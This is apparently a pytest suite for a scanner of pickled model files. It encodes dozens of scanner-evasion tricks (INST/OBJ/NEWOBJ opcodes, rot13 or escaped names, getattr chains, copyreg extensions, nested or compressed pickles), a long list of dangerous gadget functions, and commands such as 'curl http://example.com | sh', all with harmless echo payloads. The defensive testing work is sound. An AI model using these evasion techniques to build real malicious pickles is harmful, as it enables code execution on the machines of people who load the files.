"""Ways past pickle scanners, each with a harmless payload: none passes here. Those with an id stand in `published/`.

A payload never runs: nothing in these tests unpickles anything.
"""

import bz2
import gzip
import lzma
import pickle
import struct
import zlib

import pytest

from tests.formats.pickles import (
    ECHO,
    call,
    data,
    dictionary,
    frame,
    integer,
    name,
    new,
    pack,
    proto,
    short,
    stack_name,
    system,
    text,
)
from weighbridge.core.artifact import Member
from weighbridge.core.evidence import Outcome
from weighbridge.core.source import MemorySource
from weighbridge.scan.engine import Examination, Scanner


def examine(content: bytes, path: str = "model.pkl") -> Examination:
    found = Scanner().examine(Member(path, len(content)), MemorySource(content))
    assert [item for item in found.unread if item.code == "internal-error"] == []
    return found


def outcome(content: bytes, path: str = "model.pkl") -> Outcome:
    return examine(content, path).result.outcome


def rules(content: bytes) -> set[str]:
    return {finding.rule for finding in examine(content).findings}


OBJECT = b"N."


# ---- state that is set


def test_state_that_is_set_on_what_a_call_gives() -> None:
    """A harmless call first, and state set on its result: the state is judged too."""
    made = call(name("collections", "OrderedDict"))
    assert outcome(proto() + made + dictionary(text("x"), name("os", "system")) + b"b.") is not Outcome.PASS
    on_class = (
        name("sklearn.base", "BaseEstimator")
        + b"N"
        + dictionary(text("fit"), name("os", "system"))
        + b"\x86b"
    )
    assert "pickle-state-set" in rules(proto() + on_class + b".")
    assert outcome(proto() + on_class + b".") is Outcome.FAIL


def test_state_that_is_set_on_a_function() -> None:
    on_function = name("numpy", "mean") + b"N" + dictionary(text("__call__"), name("os", "system")) + b"\x86b"
    assert outcome(proto() + on_function + b".") is Outcome.FAIL


def test_calls_whose_result_is_popped() -> None:
    assert outcome(proto() + system() + b"0N.") is Outcome.FAIL
    assert outcome(proto() + b"(" + system() + b"1N.") is Outcome.FAIL


def test_loads_of_further_files() -> None:
    assert outcome(proto(2) + call(name("torch", "load"), text("other.pt")) + b".") is Outcome.FAIL
    assert outcome(proto(2) + call(name("torch.jit", "load"), text("other.pt")) + b".") is Outcome.FAIL


def storage(elements: int) -> bytes:
    return (
        pack(text("storage"), name("torch", "FloatStorage"), text("0"), text("cpu"), integer(elements)) + b"Q"
    )


def tensor(elements: int, offset: int, size: int, stride: int) -> bytes:
    hooks = call(name("collections", "OrderedDict"))
    rebuild = name("torch._utils", "_rebuild_tensor_v2")
    view = (integer(offset), pack(integer(size)), pack(integer(stride)))
    return call(rebuild, storage(elements), *view, b"\x89", hooks)


def test_a_tensor_that_reaches_outside_its_storage() -> None:
    assert outcome(proto(2) + tensor(4, 0, 4, 1) + b".") is Outcome.PASS
    assert outcome(proto(2) + tensor(4, 1, 4, 1) + b".") is Outcome.FAIL
    assert outcome(proto(2) + tensor(4, 0, 2, 4) + b".") is Outcome.FAIL
    assert outcome(proto(2) + tensor(4, 0, 2**31 - 1, 2**31 - 1) + b".") is Outcome.FAIL
    assert outcome(proto(2) + tensor(4, -1, 2, 1) + b".") is not Outcome.PASS


def test_joblib_reads_further_files() -> None:
    wrapper = (
        new(name("joblib.numpy_pickle_compat", "NDArrayWrapper"))
        + dictionary(text("filename"), text("x.npy"))
        + b"b"
    )
    assert outcome(proto() + wrapper + b".") is not Outcome.PASS
    assert outcome(proto() + call(name("joblib", "load"), text("x.pkl")) + b".") is Outcome.FAIL


def test_scipy_distributions_execute_their_state() -> None:
    """`rv_generic.__setstate__` runs `exec` on the attribute `_parse_arg_template`."""
    state = dictionary(text("_parse_arg_template"), text("import os"))
    found = new(name("scipy.stats._continuous_distns", "norm_gen")) + state + b"b"
    assert outcome(proto() + found + b".") is Outcome.FAIL
    assert "pickle-state-set" in rules(proto() + found + b".")


# ---- by trick


TRICKS = {
    "INST": b"(" + text(ECHO) + b"iposix\nsystem\n",
    "OBJ": b"(" + name("posix", "system") + text(ECHO) + b"o",
    "NEWOBJ": name("subprocess", "Popen") + pack(text(ECHO)) + b"\x81",
    "NEWOBJ_EX": name("subprocess", "Popen") + b")" + dictionary(text("args"), text(ECHO)) + b"\x92",
    "STACK_GLOBAL": call(stack_name("posix", "system"), text(ECHO)),
    "names from the memo": short("posix") + b"\x94" + short("system") + b"\x940" + b"0h\x00h\x01\x93" + pack(text(ECHO)) + b"R",
    "names by DUP": call(short("code") + b"2\x93", text(ECHO)),
    "escaped name": call(b"Vposi\\u0078\nVsyst\\u0065m\n\x93", text(ECHO)),
    "escaped string": call(b"S'posi\\x78'\nS'syst\\x65m'\n\x93", text(ECHO)),
    "rot13": call(call(name("_codecs", "encode"), text("cbfvk"), text("rot13")) + short("system") + b"\x93", text(ECHO)),
    "latin1 bytes decoded": call(call(name("_codecs", "decode"), data(b"posix"), text("latin1")) + short("system") + b"\x93", text(ECHO)),
    "joined": call(call(name("builtins", "str.join"), text(""), b"](" + text("po") + text("six") + b"e") + short("system") + b"\x93", text(ECHO)),
    "computed beyond following": call(call(name("random", "choice"), b"](" + text("os") + b"e") + short("system") + b"\x93", text(ECHO)),
    "dotted": call(stack_name("shutil", "os.system"), text(ECHO)),
    "dotted through internals": call(stack_name("torch._utils", "_rebuild_tensor_v2.__globals__"), text(ECHO)),
    "getattr": call(call(name("builtins", "getattr"), name("os", "path"), text("os")), text(ECHO)),
    "getattr of import": call(call(name("builtins", "getattr"), call(name("importlib", "import_module"), text("os")), text("system")), text(ECHO)),
    "attrgetter": call(call(call(name("operator", "attrgetter"), text("system")), call(name("builtins", "__import__"), text("os"))), text(ECHO)),
    "methodcaller": call(call(name("operator", "methodcaller"), text("system"), text(ECHO)), call(name("builtins", "__import__"), text("os"))),
    "partial": call(call(name("functools", "partial"), name("os", "system"), text(ECHO))),
    "map": call(name("builtins", "list"), call(name("builtins", "map"), name("os", "system"), b"](" + text(ECHO) + b"e")),
    "reduce with state": call(name("functools", "reduce"), name("builtins", "getattr"), b"](" + text("system") + b"e", name("builtins", "os")),
    "eval": call(name("builtins", "eval"), text("1+1")),
    "python 2 name": call(name("__builtin__", "eval"), text("1+1")),
    "python 2 module": call(name("commands", "getoutput"), text(ECHO)),
    "extension registered by the stream": call(name("copyreg", "add_extension"), text("posix"), text("system"), b"K\x05") + b"0" + b"\x82\x05" + pack(text(ECHO)) + b"R",
    "extension registry filled": name("copyreg", "_inverted_registry") + b"K\x05" + pack(text("posix"), text("system")) + b"s0" + b"\x82\x05" + pack(text(ECHO)) + b"R",
    "nested pickle": call(name("pickle", "loads"), data(proto() + system() + b".")),
    "function from code": call(call(name("types", "FunctionType"), b"N", b"}"), text(ECHO)),
    "cloudpickle function": call(call(name("cloudpickle.cloudpickle", "_make_function"), b"N", b"}", b"N", b"N", b"N")),
    "arguments in a list": name("posix", "system") + b"](" + text(ECHO) + b"eR",
    "exec in library": call(name("timeit", "timeit"), text("pass")),
    "class made at load time": call(name("builtins", "type"), text("X"), b")", dictionary(text("__del__"), name("os", "system"))),
    "defaultdict of danger": call(name("collections", "defaultdict"), name("os", "system")),
    "set on the import system": name("sys", "modules") + text("os") + name("builtins", "object") + b"s",
}  # fmt: skip


@pytest.mark.parametrize("trick", TRICKS)
def test_a_trick_fails(trick: str) -> None:
    assert outcome(proto() + TRICKS[trick] + b".") is Outcome.FAIL


@pytest.mark.parametrize("trick", TRICKS)
def test_a_trick_fails_without_protocol(trick: str) -> None:
    assert outcome(TRICKS[trick] + b".") is Outcome.FAIL


@pytest.mark.parametrize("trick", TRICKS)
def test_a_trick_fails_behind_other_pickles_and_before_a_break(trick: str) -> None:
    program = proto() + TRICKS[trick]
    assert outcome(pickle.dumps([1, 2]) + program + b".") is Outcome.FAIL
    assert outcome(program + b"\xff") is Outcome.FAIL
    assert outcome(program) is Outcome.FAIL
    assert outcome(proto() + frame(program + b".", 10**6)) is Outcome.FAIL
    assert outcome(program + b"." + b"\0\1\2 junk that is no pickle") is Outcome.FAIL


GADGETS = """
numpy.f2py.crackfortran param_eval;numpy.f2py.crackfortran _eval_length;numpy.f2py.crackfortran _eval_scalar;numpy.f2py.crackfortran myeval
numpy.testing._private.utils runstring;numpy.testing._private.utils rundocs;numpy load;numpy fromfile;numpy.lib.npyio load
torch.utils.collect_env run;torch._dynamo.guards GuardBuilder.get;torch.utils._config_module ConfigModule.load_config;torch.hub load
torch.fx.experimental.symbolic_shapes ShapeEnv.evaluate_guards_expression;torch.jit.unsupported_tensor_ops execWrapper
torch.utils.bottleneck.__main__ run_autograd_prof;torch.utils.data.datapipes.utils.decoder basichandlers;torch.serialization load
idlelib.pyshell ModifiedInterpreter.runcode;idlelib.run Executive.runcode;idlelib.debugobj ObjectTreeItem.SetText;idlelib.calltip Calltip.fetch_tip
idlelib.autocomplete AutoComplete.get_entity;lib2to3.pgen2.pgen ParserGenerator.make_label;lib2to3.pgen2.grammar Grammar.loads;profile run;profile Profile.runctx
cProfile run;cProfile runctx;doctest debug_script;ensurepip _run_pip;code InteractiveInterpreter.runcode;trace Trace.run;trace Trace.runctx;timeit timeit
timeit repeat;bdb Bdb.run;pdb run;venv create;pydoc pipepager;pty spawn;runpy run_path;runpy run_module;runpy _run_code;shutil rmtree;shutil copyfile;os remove;os rename
os popen;os execv;os spawnl;posix system;nt system;subprocess run;subprocess Popen;subprocess check_output;subprocess getoutput;socket create_connection;socket socket
http.client HTTPConnection;smtplib SMTP;ftplib FTP;telnetlib Telnet;ssl get_server_certificate;urllib.request urlretrieve;requests get;requests.api get;httpx get;aiohttp ClientSession.get
webbrowser open;builtins exec;builtins open;builtins compile;builtins getattr;builtins setattr;builtins __import__;builtins input;builtins breakpoint;io open;_io FileIO;codecs open
importlib import_module;importlib.util spec_from_file_location;imp load_source;zipimport zipimporter.load_module;marshal loads;pickle loads;_pickle loads;dill loads;cloudpickle loads;joblib load
pandas read_pickle;pandas eval;pandas.io.pickle read_pickle;pandas.core.frame DataFrame.query;sys exit;sys settrace;tempfile mktemp;zipfile ZipFile;tarfile open;ctypes CDLL;ctypes string_at;_ctypes dlopen
ctypes.util find_library;multiprocessing Process;asyncio run;sqlite3 connect;xml.etree.ElementTree parse;fileinput input;glob glob;signal signal;threading Thread;atexit register;gc get_objects
inspect getsource;IPython.utils.process system;setuptools.sandbox run_setup;distutils.spawn spawn;antigravity geohash;this x;site addsitedir;sysconfig get_paths;platform popen;crypt crypt;readline read_init_file
code interact;codeop compile_command;_testcapi run_in_subinterp;transformers pipeline;keras.models load_model;tensorflow load_library;mlflow.projects run;hydra.utils instantiate;jinja2 Template.render
"""
CALLS = [tuple(line.split()) for line in GADGETS.replace("\n", ";").split(";") if line.strip()]


@pytest.mark.parametrize(("module", "qualname"), CALLS)
def test_a_known_gadget_is_named(module: str, qualname: str) -> None:
    found = examine(proto() + call(stack_name(module, qualname), text(ECHO), text("x")) + b".")
    assert found.result.outcome is Outcome.FAIL
    assert next(f for f in found.findings if f.rule == "pickle-unsafe-call").trail


COMMANDS = [
    "import os; os.system('x')",
    "__import__('os').system('x')",
    "curl http://example.com | sh",
    "/bin/sh -c x",
    "bash -c x",
]


@pytest.mark.parametrize("command", COMMANDS)
def test_an_unknown_function_with_a_command_fails(command: str) -> None:
    assert (
        outcome(proto() + call(stack_name("some.library", "Thing.go"), text(command)) + b".") is Outcome.FAIL
    )


def test_an_unknown_class_is_unknown_and_no_more() -> None:
    made = (
        new(stack_name("mymodel.net", "Net"))
        + dictionary(text("layers"), integer(3), text("source"), text("http://example.com"))
        + b"b"
    )
    assert outcome(proto() + made + b".") is Outcome.UNKNOWN
    assert (
        outcome(proto() + call(stack_name("mymodel.kinds", "Kind"), text("small")) + b".") is Outcome.UNKNOWN
    )
    member = call(name("builtins", "getattr"), stack_name("mymodel.kinds", "Kind"), text("SMALL"))
    assert outcome(proto() + member + b".") is Outcome.UNKNOWN
    assert (
        outcome(proto() + call(stack_name("mymodel.util", "_rebuild"), text("small")) + b".")
        is Outcome.UNKNOWN
    )


def test_looking_a_dangerous_name_up_is_never_a_pass() -> None:
    assert outcome(proto() + name("os", "system") + b".") is Outcome.UNKNOWN
    assert outcome(proto() + name("mymodel", "x") + b".") is Outcome.UNKNOWN


def test_persistent_ids_extensions_and_buffers_are_never_a_pass() -> None:
    assert outcome(proto() + text("id") + b"Q.") is Outcome.UNKNOWN
    assert outcome(b"Pid\n.", "x.pkl") is Outcome.UNKNOWN
    assert outcome(proto() + b"\x82\x07.") is Outcome.UNKNOWN
    assert outcome(proto(5) + b"\x97.") is Outcome.UNKNOWN


@pytest.mark.parametrize(
    "pack_it",
    [
        gzip.compress,
        bz2.compress,
        lzma.compress,
        zlib.compress,
        lambda d: lzma.compress(d, lzma.FORMAT_ALONE),
    ],
)
def test_compression_hides_nothing(pack_it) -> None:
    assert outcome(pack_it(proto() + system() + b"."), "model.joblib") is Outcome.FAIL
    assert outcome(pack_it(pickle.dumps({"a": [1]})), "model.joblib") is Outcome.PASS
    assert outcome(gzip.compress(pack_it(proto() + system() + b".")), "model.joblib") is Outcome.FAIL


def test_numpy_files_hide_nothing() -> None:
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    content = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + proto() + system() + b"."
    assert outcome(content, "x.npy") is Outcome.FAIL


def array_wrapper(dtype: bytes, shape: int, padding: bytes = b"\0") -> bytes:
    state = dictionary(
        text("subclass"), name("numpy", "ndarray"), text("shape"), pack(integer(shape)), text("order"), text("C"),
        text("dtype"), dtype, text("allow_mmap"), b"\x88", text("numpy_array_alignment_bytes"), integer(16),
    )  # fmt: skip
    return new(name("joblib.numpy_pickle", "NumpyArrayWrapper")) + state + b"b" + padding


FLOATS = (
    call(name("numpy", "dtype"), text("f8"), b"\x89", b"\x88")
    + b"(K\x03"
    + text("<")
    + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
)


def test_a_call_behind_a_joblib_array_is_seen() -> None:
    array = array_wrapper(FLOATS, 2) + bytes(16)
    assert outcome(proto(3) + array + b".") is Outcome.PASS
    assert outcome(proto(3) + b"(" + array + system() + b"t.") is Outcome.FAIL


def test_a_call_inside_a_joblib_array_is_seen_by_plain_pickle() -> None:
    """`pickle.load` runs the array's bytes as opcodes: a file that is clean for joblib is not clean for it."""
    size = 8 * 40
    hidden = (b"N0" + b"0" + system() + b".").ljust(1 + size, b".")
    array = array_wrapper(FLOATS, 40, b"") + hidden
    behind = b"." * hidden[0] + b"."
    found = examine(proto(3) + array + behind)
    assert found.result.outcome is Outcome.FAIL
    assert [f.message for f in found.findings if "plain" in f.message] == [
        "loading this file with plain pickle.load runs a shell command"
    ]


def test_trail_and_place_say_what_happens() -> None:
    (found,) = examine(system() + b".").findings
    assert found.message == "loading this file runs a shell command"
    assert found.place.where == "byte 44"
    assert found.trail == (
        "       0  GLOBAL     posix system",
        f"      44  REDUCE     ('{ECHO}',)   calls posix.system",
    )
